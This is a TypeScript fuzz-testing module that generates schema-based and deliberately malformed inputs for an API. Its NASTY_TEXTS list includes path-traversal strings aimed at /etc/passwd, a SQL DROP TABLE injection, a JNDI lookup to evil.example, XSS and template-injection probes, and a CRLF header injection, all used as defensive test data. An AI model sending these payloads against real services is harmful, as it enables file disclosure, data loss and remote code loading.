import fc from 'fast-check'

/** As much of a JSON Schema as the API's own document uses. */
export interface Schema {
  readonly type?: string
  readonly enum?: readonly unknown[]
  readonly pattern?: string
  readonly format?: string
  readonly minimum?: number
  readonly maximum?: number
  readonly maxLength?: number
  readonly properties?: Readonly<Record<string, Schema>>
  readonly items?: Schema
  readonly anyOf?: readonly Schema[]
}

const NASTY_TEXTS = [
  '',
  ' ',
  '\u0000',
  '%00',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  "'; DROP TABLE standing; --",
  '%24{jndi:ldap://evil.example}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '\r\nSet-Cookie: a=b',
  '\u202etxet',
  '\ud800',
  '__proto__',
  'constructor',
  'toString',
  '9'.repeat(400),
  'a'.repeat(5_000),
  '-1',
  'NaN',
  '1e309',
  '2025-02-30',
  '0000',
  '010190-1234',
]

/** Any text: printable, wild, or one that has broken somebody's program before. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.constantFrom(...NASTY_TEXTS),
)

/** Any JSON value, small or strangely deep. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  anyText,
  fc.jsonValue({ maxDepth: 4, stringUnit: 'binary' }),
  fc.constantFrom(null, [], {}, true, 1e308, -0, deep(200)),
)

function deep(levels: number): unknown {
  let value: unknown = 1
  for (let i = 0; i < levels; i++) value = i % 2 ? [value] : { x: value }
  return value
}

/** Returns values that a schema mostly allows, and sometimes does not. */
export function valuesOf(schema: Schema): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 3, arbitrary: allowedBy(schema) }, { weight: 1, arbitrary: anyJson })
}

function allowedBy(schema: Schema): fc.Arbitrary<unknown> {
  if (schema.enum) return fc.constantFrom(...schema.enum)
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(allowedBy))
  switch (schema.type) {
    case 'object':
      return fc.record(
        Object.fromEntries(Object.entries(schema.properties ?? {}).map(([k, s]) => [k, valuesOf(s)])),
        {
          requiredKeys: [],
        },
      )
    case 'array':
      return fc.array(valuesOf(schema.items ?? {}), { maxLength: 5 })
    case 'integer':
    case 'number':
      return fc.integer({ min: schema.minimum ?? -1000, max: Math.min(schema.maximum ?? 1000, 1_000_000) })
    case 'boolean':
      return fc.boolean()
    default:
      return textAllowedBy(schema)
  }
}

function textAllowedBy({ pattern, format }: Schema): fc.Arbitrary<string> {
  if (format === 'date') return fc.constantFrom('2025-12-01', '2026-02-28', '1900-01-01', '9999-12-31')
  if (pattern === '^\\d{4}$') return fc.constantFrom('0751', '0730', '0101', '9999')
  return anyText
}
